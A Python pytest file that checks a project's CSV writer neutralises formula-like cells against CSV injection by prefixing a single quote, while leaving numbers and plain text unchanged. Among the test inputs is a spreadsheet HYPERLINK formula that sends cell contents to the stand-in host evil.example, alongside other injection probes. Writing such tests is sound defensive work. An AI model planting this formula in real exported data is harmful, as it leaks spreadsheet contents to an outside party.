"""core/csv_safe.py: the one CSV writer of the project neutralises formula-like cells (OWASP
"CSV Injection": a leading single quote) and leaves numbers alone."""

from __future__ import annotations

import csv
import io

import pytest

from core import csv_safe


@pytest.mark.parametrize(
    "raw",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd", "-1+1", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "-", "=", "-inf", "-nan"],
)  # fmt: skip
def test_formula_like_text_gets_a_leading_quote(raw):
    assert csv_safe.cell(raw) == "'" + raw


@pytest.mark.parametrize("raw", ["-380", "+1.5", "-1.5e-3", "0", "Hall", "a=b", " =1", ""])
def test_numbers_and_plain_text_are_written_as_they_are(raw):
    assert csv_safe.cell(raw) == raw


def test_the_writer_writes_numbers_as_numbers_and_quotes_formulas():
    out = io.StringIO()
    csv_safe.writer(out, lineterminator="\n").writerow(["=1+1", -380, 2.5, None, "-4"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-380", "2.5", "", "-4"]]
